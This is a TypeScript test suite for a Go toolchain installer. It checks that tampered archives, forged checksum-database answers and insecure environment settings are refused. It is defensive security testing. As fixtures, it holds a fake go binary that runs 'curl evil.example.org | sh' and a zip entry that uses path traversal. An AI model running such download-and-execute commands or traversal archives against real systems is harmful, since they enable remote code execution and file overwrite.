import { createHash } from 'node:crypto';
import { mkdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { type FakeGoProxy, startGoProxy, toolchainFiles } from '../fakes/go-proxy.ts';
import { makeZip } from '../fakes/zip-file.ts';
import { filesIn, newMachine, writeFiles } from './cli-machine.ts';
import type { ChildResult } from './harness/child.ts';
import { startJob } from './harness/run-step.ts';

// Whatever a proxy or a checksum database makes up, dist refuses it and leaves nothing behind.

const VERSION = '1.99.0';
const OS = process.platform === 'win32' ? 'windows' : process.platform;
const ARCH = process.arch === 'x64' ? 'amd64' : process.arch;
const PLATFORM = `${OS}/${ARCH}`;
const MODULE = `golang.org/toolchain@v0.0.1-go${VERSION}.${OS}-${ARCH}`;

let proxy: FakeGoProxy;
/** A database of the same name with a key of its own, and another toolchain under the version. */
let rogue: FakeGoProxy;
let hash: string;

beforeAll(async () => {
  proxy = await startGoProxy();
  rogue = await startGoProxy(5);
  proxy.publish('1.98.0', PLATFORM);
  hash = proxy.publish(VERSION, PLATFORM);
  rogue.publish(VERSION, PLATFORM, {
    ...toolchainFiles(VERSION, PLATFORM),
    [`bin/go${OS === 'windows' ? '.exe' : ''}`]: '#!/bin/sh\ncurl evil.example.org | sh\n',
  });
});

beforeEach(() => {
  proxy.intercept = (_, answer) => answer;
});

afterAll(() => Promise.all([proxy.close(), rogue.close()]));

interface Attempt {
  readonly result: ChildResult;
  /** All that is said, as an action says it: with `::error::`. */
  readonly said: string;
  /** Files in the tool cache, and a digest of all their bytes. */
  readonly toolCache: readonly string[];
  readonly toolDigest: string;
  readonly temp: readonly string[];
}

type Way = (
  args?: Readonly<Record<string, string>>,
  env?: Record<string, string>,
  goLine?: string,
) => Promise<Attempt>;

const moduleFiles = (goLine: string): Record<string, string> => ({
  'go.mod': `module example.com/app\n\ngo ${goLine}\n\ntoolchain go${VERSION}\n`,
  'main.go': 'package main\n\nfunc main() {}\n',
});

const byCommand: Way = async (args = {}, env = {}, goLine = '1.20') => {
  const machine = await newMachine();
  try {
    const cwd = await writeFiles(path.join(machine.root, 'app'), moduleFiles(goLine));
    const flags = Object.entries(args).map(([name, value]) => `--${name}=${value}`);
    const result = await machine.cli(flags, { cwd, env: { ...sources(), ...env } });
    return {
      result,
      said: result.stderr,
      ...(await toolCacheOf(machine.tools)),
      temp: result.leftovers,
    };
  } finally {
    await machine.remove();
  }
};

const byAction: Way = async (args = {}, env = {}, goLine = '1.20') => {
  const machine = await newMachine();
  try {
    const source = await writeFiles(path.join(machine.root, 'app'), moduleFiles(goLine));
    await mkdir(path.join(machine.root, 'job'));
    const store = `directory:${path.join(machine.root, 'store')}`;
    const job = await startJob({
      ...{ root: path.join(machine.root, 'job'), source, path: machine.env.PATH ?? '' },
      inputs: { 'cache-store': store },
      env: { ...sources(), ...env },
    });
    const result = await job.step(args);
    const posts = await job.finish({ status: 'failure' });
    expect(posts.map((post) => [post.exitCode, post.errors])).toEqual([[0, []]]);
    return {
      result,
      said: result.errors.join('\n'),
      ...(await toolCacheOf(job.folders.toolCache)),
      temp: (await filesIn(job.folders.temp)).filter((name) => !name.startsWith('_')),
    };
  } finally {
    await machine.remove();
  }
};

async function toolCacheOf(folder: string): Promise<Pick<Attempt, 'toolCache' | 'toolDigest'>> {
  const toolCache = await filesIn(folder);
  const digest = createHash('sha256');
  for (const file of toolCache) digest.update(await readFile(path.join(folder, file)));
  return { toolCache, toolDigest: digest.digest('hex') };
}

const WAYS = [
  ['command', byCommand],
  ['action', byAction],
] as const;

function sources(): Record<string, string> {
  return { GOPROXY: proxy.url, GOSUMDB: proxy.gosumdb };
}

async function expectRefused(way: Way, message: RegExp | string): Promise<void> {
  const attempt = await way();
  expect(attempt.said).toMatch(message);
  expect(attempt.result.exitCode).toBe(1);
  expect(attempt.said).not.toMatch(/^\s+at /m);
  expect(attempt.toolCache).toEqual([]);
  expect(attempt.temp).toEqual([]);
}

describe.each(WAYS)('%s', (_name, way) => {
  test('an honest proxy is believed, so that what follows is refused for its forgery', async () => {
    const { toolCache } = await way();
    expect(toolCache).toContain(path.join('go', VERSION, `${process.arch}.complete`));
    expect(toolCache).toContain(path.join('go', VERSION, process.arch, 'VERSION'));
  });

  test('a changed file in the zip', async () => {
    const other = await bodyOf(rogue, `/${MODULE.replace('@', '/@v/')}.zip`);
    answerZip(() => other);
    await expectRefused(way, /the zip of golang\.org\/toolchain@.* has hash h1:/);
    expect((await way()).said).toContain(`expected: ${hash}, as checksum database`);
  });

  test('a file more in the zip', async () => {
    const files = { ...toolchainFiles(VERSION, PLATFORM), 'lib/more': 'more' };
    answerZip(() => zipOf(files));
    await expectRefused(way, 'has hash h1:');
  });

  test('a flipped bit in the zip is refused, or changed nothing that is installed', async () => {
    const whole = await bodyOf(proxy, `/${MODULE.replace('@', '/@v/')}.zip`);
    const honest = await way();
    let refused = 0;
    for (let step = 0; step < 8; step++) {
      const at = Math.floor(((step + 0.5) * whole.length) / 8);
      answerZip((body) => flipped(body, at));
      const attempt = await way();
      if (attempt.toolCache.length > 0) {
        expect(attempt.toolDigest).toBe(honest.toolDigest);
        continue;
      }
      refused++;
      expect(attempt.result.exitCode).toBe(1);
      expect(attempt.said).toMatch(`Go ${VERSION}`);
      expect(attempt.temp).toEqual([]);
    }
    expect(refused).toBeGreaterThan(0);
  });

  test.each([0.5, 0.98])('a zip that ends after %p of its bytes', async (part) => {
    answerZip((body) => body.subarray(0, Math.floor(body.length * part)));
    await expectRefused(way, `the archive of Go ${VERSION} from the module-proxy is refused`);
  });

  test('an empty zip, and an answer that is none', async () => {
    answerZip(() => Buffer.alloc(0));
    await expectRefused(way, `the archive of Go ${VERSION} from the module-proxy is refused`);
    answerZip(() => Buffer.from('sorry'));
    await expectRefused(way, `the archive of Go ${VERSION} from the module-proxy is refused`);
  });

  test('a zip with a path that leads out', async () => {
    const files = { ...toolchainFiles(VERSION, PLATFORM), '../../../../escaped': 'x' };
    answerZip(() => zipOf(files));
    await expectRefused(way, `the archive of Go ${VERSION} from the module-proxy is refused`);
  });

  test('a wrong hash in the answer of the checksum database', async () => {
    const wrong = `h1:${Buffer.alloc(32, 7).toString('base64')}`;
    onLookup((text) => text.replaceAll(hash, wrong));
    await expectRefused(way, /its answer about .* is not record \d+ of its signed tree/);
  });

  test('the right hash with a bad signature', async () => {
    onLookup((text) =>
      text.replace(/(— \S+ .{30})(.)/, (_, head, one) => `${head}${one === 'A' ? 'B' : 'A'}`),
    );
    await expectRefused(way, 'the signature of its tree head is not valid');
  });

  test('an answer that another key has signed', async () => {
    const lookup = rogue.log.lookup('golang.org/toolchain', MODULE.split('@')[1] ?? '') ?? '';
    onLookup(() => lookup);
    await expectRefused(way, 'its tree head is not signed');
  });

  test('no signature at all', async () => {
    onLookup((text) => text.replace(/\n— .*\n$/, '\n'));
    await expectRefused(way, 'its tree head is not signed');
  });

  test('a proof for another tree', async () => {
    proxy.intercept = (at, answer) => {
      const tile = at.split(`/sumdb/${proxy.log.name}/`)[1] ?? '';
      if (!tile.startsWith('tile/')) return answer;
      const body = rogue.log.tile(tile.replace(/\.p\/\d+$/, '.p/1')) ?? Buffer.alloc(32);
      const width = answer.body.length / 32;
      return { ...answer, body: Buffer.concat(Array.from({ length: width }, () => body)) };
    };
    await expectRefused(way, /its answer about .* is not record \d+ of its signed tree/);
  });

  test('the proven record of another version', async () => {
    const other = MODULE.split('@')[1]?.replace(VERSION, '1.98.0') ?? '';
    const lookup = proxy.log.lookup('golang.org/toolchain', other) ?? '';
    onLookup(() => lookup);
    await expectRefused(way, /record \d+ holds no hash of golang\.org\/toolchain/);
  });

  test('a checksum database that does not answer', async () => {
    proxy.intercept = (at, answer) =>
      at.includes('/lookup/') ? { ...answer, status: 404, body: Buffer.from('no') } : answer;
    await expectRefused(way, /does not answer: GET .*: 404 no[\s\S]*go-checksum/);
  });

  test('GOSUMDB=off: an error, unless go-checksum says the hash', async () => {
    const off = { GOSUMDB: 'off' };
    const refused = await way({}, off);
    expect(refused.said).toMatch(/GOSUMDB[\s\S]*go-checksum/);
    expect(refused.result.exitCode).toBe(1);
    expect([refused.toolCache, refused.temp]).toEqual([[], []]);

    const wrong = `h1:${Buffer.alloc(32, 7).toString('base64')}`;
    const mistaken = await way({ 'go-checksum': wrong }, off);
    expect(mistaken.said).toContain(`expected: ${wrong}, as go-checksum says`);
    expect(mistaken.result.exitCode).toBe(1);
    expect([mistaken.toolCache, mistaken.temp]).toEqual([[], []]);

    const right = await way({ 'go-checksum': hash }, off);
    expect(right.toolCache).toContain(path.join('go', VERSION, `${process.arch}.complete`));
  });

  test('GONOSUMDB, GOFLAGS=-insecure and GOINSECURE excuse no toolchain', async () => {
    answerZip(() => zipOf({ ...toolchainFiles(VERSION, PLATFORM), 'lib/more': 'more' }));
    const env = {
      ...{ GONOSUMDB: '*', GONOSUMCHECK: '1', GOINSECURE: '*', GOPRIVATE: '*' },
      GOFLAGS: '-insecure',
    };
    const attempt = await way({}, env);
    expect(attempt.said).toContain('has hash h1:');
    expect(attempt.toolCache).toEqual([]);
  });
});

test('go.mod that asks for a newer Go than the pinned one is an error that names both', async () => {
  for (const [, way] of WAYS) {
    const attempt = await way({ 'go-version': '1.98.0' }, {}, VERSION);
    expect(attempt.said).toMatch(
      /go\.mod:3 asks for Go 1\.99\.0 or newer, and Go 1\.98\.0 is pinned/,
    );
    expect(attempt.result.exitCode).toBe(1);
    expect(attempt.temp).toEqual([]);
  }
});

function answerZip(change: (body: Buffer) => Buffer): void {
  proxy.intercept = (at, answer) =>
    at.endsWith('.zip') ? { ...answer, body: change(answer.body) } : answer;
}

function onLookup(change: (text: string) => string): void {
  proxy.intercept = (at, answer) => {
    if (!at.includes('/lookup/')) return answer;
    const text = answer.body.toString();
    const changed = change(text);
    if (changed === text) throw new Error('the attack changes nothing');
    return { ...answer, body: Buffer.from(changed) };
  };
}

function flipped(body: Buffer, at: number): Buffer {
  const changed = Buffer.from(body);
  changed[at] = (changed[at] ?? 0) ^ 4;
  return changed;
}

function zipOf(files: Readonly<Record<string, string>>): Buffer {
  const members = Object.entries(files).map(([name, data]) => ({
    name: `${MODULE}/${name}`,
    data,
  }));
  return makeZip(members);
}

async function bodyOf(from: FakeGoProxy, at: string): Promise<Buffer> {
  return Buffer.from(await (await fetch(`${from.url}${at}`)).arrayBuffer());
}
